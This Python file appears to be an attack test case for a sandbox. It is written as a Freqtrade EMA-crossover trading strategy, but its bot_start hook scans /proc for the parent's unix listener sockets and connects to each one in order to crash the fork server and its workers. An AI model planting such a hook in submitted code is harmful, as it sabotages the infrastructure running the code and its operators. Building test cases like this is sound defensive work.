# family: attack
# needs: sandbox
"""Attack: connects to the unix socket of its own fork server and hangs up, which ends the server and all its workers."""

import os
import socket
from pathlib import Path

import talib.abstract as ta
from freqtrade.strategy import IStrategy


class ServerSocket(IStrategy):
    timeframe = "1h"
    startup_candle_count = 100
    minimal_roi = {"0": 10}
    stoploss = -0.12

    def populate_indicators(self, dataframe, metadata):
        dataframe["fast"] = ta.EMA(dataframe, timeperiod=12)
        dataframe["slow"] = ta.EMA(dataframe, timeperiod=48)
        return dataframe

    def populate_entry_trend(self, dataframe, metadata):
        cross = (dataframe["fast"] > dataframe["slow"]) & (dataframe["fast"].shift(1) <= dataframe["slow"].shift(1))
        dataframe.loc[cross & (dataframe["volume"] > 0), "enter_long"] = 1
        return dataframe

    def populate_exit_trend(self, dataframe, metadata):
        dataframe.loc[dataframe["fast"] < dataframe["slow"], "exit_long"] = 1
        return dataframe

    def bot_start(self, **kwargs):
        """Only sockets that the parent itself holds: another session's server on this machine is none of ours."""
        try:
            held = {os.readlink(link) for link in Path(f"/proc/{os.getppid()}/fd").iterdir()}
            lines = [line.split() for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
        except OSError:
            return
        for path in {words[7] for words in lines if len(words) > 7 and f"socket:[{words[6]}]" in held and "/listener-" in words[7]}:
            try:
                with socket.socket(socket.AF_UNIX) as line:
                    line.settimeout(2)
                    line.connect(path)
            except OSError:
                continue
